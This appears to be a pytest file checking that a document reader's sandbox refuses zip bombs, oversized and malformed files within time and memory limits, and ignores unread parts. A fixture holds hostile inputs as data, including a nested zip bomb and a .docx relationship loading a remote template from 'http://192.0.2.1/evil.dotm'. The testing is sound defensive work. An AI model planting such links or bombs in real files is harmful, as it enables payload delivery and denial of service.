"""Every bad file is refused within five seconds and 512 MB, with a sentence that names it, its place and the fix."""

from __future__ import annotations

import concurrent.futures
import multiprocessing
import random
import resource
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from documents import parse, read, sandbox
from documents.refusals import Refused
from tests.documents import forked
from tests.documents.bad_bombs import BOMBS
from tests.documents.bad_files import BAD
from tests.documents.making_files import MEGABYTE, Bad, docx, nested_zips

Tried = tuple[Refused | None, float, int]


def _try(data: bytes, suffix: str, name: str) -> Tried:
    """The refusal, the seconds that it took, and the most bytes of memory that a child of this process ever took."""
    begun = time.monotonic()
    refused = None
    try:
        sandbox.read_limited(data, suffix, name)
    except Refused as found:
        refused = found
    return refused, time.monotonic() - begun, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss * 1024


@pytest.fixture(scope="module")
def apart() -> Iterator[concurrent.futures.Executor]:
    """A process that starts nothing but readers, so that their memory can be measured."""
    spawn = multiprocessing.get_context("spawn")
    with concurrent.futures.ProcessPoolExecutor(1, mp_context=spawn) as executor:
        yield executor


@pytest.fixture(scope="module")
def prepared() -> Iterator[concurrent.futures.Executor]:
    """Such a process whose readers are forks of it: what every start of Python repeats is done once."""
    spawn = multiprocessing.get_context("spawn")
    with concurrent.futures.ProcessPoolExecutor(1, spawn, forked.prepare) as executor:
        yield executor


def _cases(of: dict[str, Bad]) -> pytest.MarkDecorator:
    return pytest.mark.parametrize("bad", [pytest.param(bad, id=called) for called, bad in of.items()])


@pytest.mark.slow
@_cases(BOMBS)
def test_a_bomb_is_refused(bad: Bad, apart: concurrent.futures.Executor) -> None:
    _is_refused(bad, apart)


@pytest.mark.slow
@_cases({called: bad for called, bad in BAD.items() if called not in BOMBS})
def test_is_refused(bad: Bad, prepared: concurrent.futures.Executor) -> None:
    _is_refused(bad, prepared)


def _is_refused(bad: Bad, apart: concurrent.futures.Executor) -> None:
    name = f"Wexcombe plan{bad.suffix}"
    refused, seconds, memory = apart.submit(_try, bad.make(), bad.suffix, name).result()
    assert refused is not None
    assert (refused.file, refused.place, refused.problem) == (name, bad.place, bad.problem)
    assert str(refused).startswith(name)
    assert len(refused.fix) > 20
    assert seconds < 5
    assert memory <= 512 * MEGABYTE


def test_a_file_that_is_too_large_is_refused_before_it_is_opened(tmp_path: Path) -> None:
    path = tmp_path / "Wexcombe plan.docx"
    with path.open("wb") as file:
        file.truncate(200 * MEGABYTE)
    begun = time.monotonic()
    with pytest.raises(Refused) as refused:
        read(path)
    assert time.monotonic() - begun < 0.5
    assert str(refused.value) == (
        "Wexcombe plan.docx: the file has 200 MB, more than the 50 MB that can be read; "
        "take the pictures out, or copy the action plan alone into a new file."
    )
    with pytest.raises(Refused) as refused:
        read(bytes(51 * MEGABYTE), ".csv", name="plan.csv")
    assert refused.value.problem == "the file has 51 MB, more than the 50 MB that can be read"


def test_the_corpus_has_many_kinds() -> None:
    assert len(BAD) >= 80


@pytest.mark.parametrize(
    ("part", "content"),
    [
        ("word/embeddings/bomb.zip", nested_zips()),
        ("customXml/item1.xml", b"<!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>"),
        ("word/media/image1.png", random.Random(1).randbytes(3 * MEGABYTE)),
        (
            "word/_rels/settings.xml.rels",
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            b'attachedTemplate" Target="http://192.0.2.1/evil.dotm" TargetMode="External"/></Relationships>',
        ),
    ],
    ids=["zip bomb attached", "entities in a part that is not read", "picture", "template on the network"],
)
def test_what_is_not_read_does_no_harm(part: str, content: bytes) -> None:
    assert sandbox.read_limited(docx({part: content}), ".docx", "plan.docx") == parse(
        docx(), ".docx", "plan.docx"
    )
